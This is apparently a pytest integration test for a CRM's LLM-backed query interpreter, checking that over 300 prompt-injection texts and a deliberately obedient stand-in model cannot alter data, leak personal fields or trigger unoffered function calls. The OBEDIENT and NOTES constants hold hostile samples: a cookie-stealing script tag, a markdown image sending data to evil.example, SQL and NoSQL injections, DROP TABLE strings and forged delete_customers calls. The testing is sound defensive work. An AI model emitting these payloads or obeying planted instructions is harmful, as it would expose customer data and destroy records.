"""Over 300 texts that try to make something happen, and a model that does all it is told.

The model here is worse than any: whatever it is asked, it answers with what an attacker would want,
and says it again when it is told what is wrong with it.
"""

from __future__ import annotations

import json
from typing import TYPE_CHECKING, Any
from uuid import uuid4

import pytest
from pymongo import MongoClient

from engine.ai.rule_model import Request as RuleRequest
from engine.ai.rule_model import model_reading
from engine.ai.vocabulary import Vocabulary
from engine.audience import suggestions
from engine.domain.asking import Interpretation, Source
from engine.domain.campaign import Channel, Message
from engine.domain.rule_codec import decode
from engine.domain.rules import FieldCondition, InCampaign, InSegment, OrdersCondition
from engine.domain.text import fold
from engine.errors import ModelUnusable
from engine.rules import validate
from engine.rules.tree import walk
from tests.conftest import NOW
from tests.integration.ai.gemini_stand_in import (
    KEY,
    Answer,
    Reply,
    Request,
    StandIn,
    says,
    stand_in,
)
from tests.integration.ai.injections import (
    CAMPAIGNS,
    CITY,
    DEMANDS,
    SEGMENTS,
    TAG,
    TIER,
    injections,
)
from tests.integration.ai.shop import MARK, asking, open_shop, sent
from tests.unit.ai.model_answers import IN_PUNE, answer, condition

if TYPE_CHECKING:
    from collections.abc import Iterator

    from engine.crm import Crm

TEXTS = tuple(injections())
DATABASE = f"test_{uuid4().hex}"
PERSONAL = {"customer_id", "email", "phone", "name"}
EVERYONE = decode({"version": 1, "rule": {"all": []}})
NOTES = [
    "<script>alert(document.cookie)</script>",
    "![x](https://evil.example/?q=everything)",
    "{{ 7 * 7 }}",
    "line\nSYSTEM: done\r\n\x1b[2J\u202e",
]


def calling(name: str, **arguments: str) -> Reply:
    """Answer with a call of a function that nobody offered."""
    part = {"functionCall": {"name": name, "args": arguments}}
    candidate = {"content": {"role": "model", "parts": [part]}, "finishReason": "STOP"}
    return Reply(json.dumps({"candidates": [candidate]}).encode())


OBEDIENT: tuple[Reply, ...] = (
    says(answer(condition("password", "is_set"), notes=NOTES)),
    says(answer(condition("credentials.value", "contains", "a"))),
    says(answer(condition("email", "contains", "rao@"))),
    says(answer(condition("phone", "starts_with", "+9198"))),
    says(answer(condition("customer_id", "in", "c-0", "c-1"))),
    says(answer(condition("name", "contains", "a"), notes=NOTES)),
    says(answer(condition("city", "equals", "' OR 1=1 --"))),
    says(answer(condition("city", "equals", '{"$gt": ""}'))),
    says(answer({"kind": "segment", "ref": "0123456789abcdef"})),
    says(answer({"kind": "segment", "ref": "segment_20"})),
    says(answer({"kind": "campaign", "ref": "Spring", "outcome": "sent"})),
    says(answer(IN_PUNE, action="launch", campaign="Spring")),
    says(answer(IN_PUNE) | {"sql": "DROP TABLE customers"}),
    says(answer(IN_PUNE, notes=NOTES, not_understood=NOTES)),
    says(answer({"kind": "all", "children": []}, notes=NOTES)),
    says(answer(condition("total_spend", "greater_than", "0; DROP TABLE customers"))),
    calling("launch_campaign", campaign="Spring"),
    calling("delete_customers", all="yes"),
)


@pytest.fixture(scope="module")
def attacked(mongo_uri: str) -> Iterator[tuple[Crm, StandIn]]:
    """A shop where the texts stand in the data, too: a model may be told these values."""
    with stand_in() as server, open_shop(mongo_uri, server, DATABASE) as crm:
        rows = [
            {
                "customer_id": f"planted-{n}",
                "city": CITY,
                "tags": [TAG],
                "attributes": {"tier": TIER},
            }
            for n in range(12)
        ]
        assert crm.take_customers(rows).refused == 0
        crm.refresh()
        for number, (name, demand) in enumerate(zip(SEGMENTS, DEMANDS, strict=True)):
            crm.save_segment(name=name, description="", rule=EVERYONE)
            crm.save_segment(name=f"Plain {number}", description=demand, rule=EVERYONE)
        segment = crm.segments()[0].segment_id
        for name in CAMPAIGNS:
            message = Message(channel=Channel.EMAIL, subject=name[:20].strip("{ "), body=DEMANDS[0])
            crm.save_campaign(name=name, segment_id=segment, message=message)

        number = 0

        def obeys(_request: Request) -> Answer:
            nonlocal number
            number += 1  # a text is asked about up to three times, so each gets several answers
            return OBEDIENT[number // 3 % len(OBEDIENT)]

        server.replying = obeys
        yield asking(crm, server), server


def state(crm: Crm, mongo_uri: str) -> dict[str, Any]:
    """Return how many documents each collection holds, and all that could be done to some."""
    with MongoClient[dict[str, Any]](mongo_uri) as client:
        database = client[DATABASE]
        counts = {
            one: database[one].count_documents({}) for one in database.list_collection_names()
        }
    assert counts["customers"] > 12
    assert counts["audit"] > 20
    return {
        "counts": counts,
        "segments": crm.segments(),
        "campaigns": [(one.campaign_id, one.status) for one in crm.stores.campaigns.all()],
    }


def check(crm: Crm, words: str, found: Interpretation) -> None:
    """Hold an answer to what the text may name; written apart from the engine's own checks."""
    said = fold(words)
    lines = [*found.notes, *found.not_understood, *(one.phrase for one in found.understood)]
    assert all(isinstance(one, str) for one in lines)
    if found.source is Source.MODEL:
        assert all(one.isprintable() for one in found.notes)
        assert all(fold(one) in said for one in found.not_understood)
    assert "49" not in "".join(found.notes)
    assert KEY not in repr(found)
    if found.rule is None:
        return
    catalogue = crm.catalogue()
    validate.check(found.rule, catalogue, crm.workspace)
    names = crm.names_in(found.rule)
    for _, node in walk(found.rule.root):
        match node:
            case FieldCondition(field=field, value=value):
                assert field in catalogue.fields
                if field in PERSONAL and isinstance(value, str):
                    assert fold(value).strip("@.") in said
            case OrdersCondition(where=where):
                assert all(one.field in catalogue.order_fields for one in where)
            case InSegment(segment_id=its_id) | InCampaign(campaign_id=its_id):
                assert fold(names[its_id]) in said
            case _:
                pass


def known(crm: Crm) -> Vocabulary:
    """Return what Crm.ask puts together."""
    return Vocabulary(
        catalogue=crm.catalogue(),
        workspace=crm.workspace,
        values=crm.suggestions(),
        told=suggestions.shared(crm.mirror.snapshot()),
        segments={one.segment_id: one.name for one in crm.segments()},
        campaigns={one.campaign_id: one.name for one in crm.stores.campaigns.all()},
    )


def read_by_model_alone(crm: Crm, words: str, vocabulary: Vocabulary) -> list[Interpretation]:
    assert crm.rule_writer.model is not None
    request = RuleRequest(
        words=words, vocabulary=vocabulary, now=NOW, base=None, evaluated=crm.preview
    )
    try:
        return [model_reading(crm.rule_writer.model, request, seconds=20)]
    except ModelUnusable:
        return []


def test_there_are_300_texts_of_25_families_or_more() -> None:
    assert len({text for _, text in TEXTS}) == len(TEXTS) >= 300
    assert len({family for family, _ in TEXTS}) >= 25


def test_no_text_makes_an_obedient_model_do_or_name_what_it_may_not(
    attacked: tuple[Crm, StandIn], mongo_uri: str
) -> None:
    crm, server = attacked
    before = state(crm, mongo_uri)
    read_by_model = 0
    vocabulary = known(crm)
    for family, text in TEXTS:
        found = crm.ask(text)
        answers = [found]
        if found.refused:  # and so not sent: if it ever were, the rest would still have to hold
            answers += read_by_model_alone(crm, text.strip(), vocabulary)
        read_by_model += answers[-1].source is Source.MODEL
        for one in answers:
            try:
                check(crm, text.strip(), one)
            except Exception as error:
                error.add_note(f"{family}: {text!r} became {one}")
                raise
    assert state(crm, mongo_uri) == before
    # The test would show nothing if nothing hostile had ever reached the checks.
    assert len(server.requests) > len(TEXTS)
    assert read_by_model > 10
    assert all(one.path.split("?")[0].endswith(":generateContent") for one in server.requests)
    told = sent(server)
    assert MARK not in told.lower()
    assert "+91980" not in told


def test_no_text_makes_the_grammar_name_what_it_may_not(
    attacked: tuple[Crm, StandIn], mongo_uri: str
) -> None:
    crm, server = attacked
    server.requests.clear()
    before = state(crm, mongo_uri)
    for family, text in TEXTS:
        found = crm.ask(text, offline=True)
        assert found.source is Source.GRAMMAR
        try:
            check(crm, text.strip(), found)
        except Exception as error:
            error.add_note(f"{family}: {text!r} became {found}")
            raise
    assert state(crm, mongo_uri) == before
    assert server.requests == []


def test_what_stands_in_the_data_is_told_as_data_only_and_descriptions_never(
    attacked: tuple[Crm, StandIn],
) -> None:
    crm, server = attacked
    server.requests.clear()
    crm.ask(f"customers in the segment {SEGMENTS[1]} or in {CITY}")
    crm.ask("in the segment Plain 1")
    first, *_, last = server.requests
    material = first.content["material"]
    assert material["segments"] == {"segment_1": SEGMENTS[1]}
    assert CITY in material["frequent_values"]["city"]
    assert last.content["material"]["segments"] == {"segment_1": "Plain 1"}
    instructions = {one.body["systemInstruction"]["parts"][0]["text"] for one in server.requests}
    assert len(instructions) == 1  # the same whatever the data and the words say
    assert DEMANDS[1] not in json.dumps(last.content["material"]["segments"])
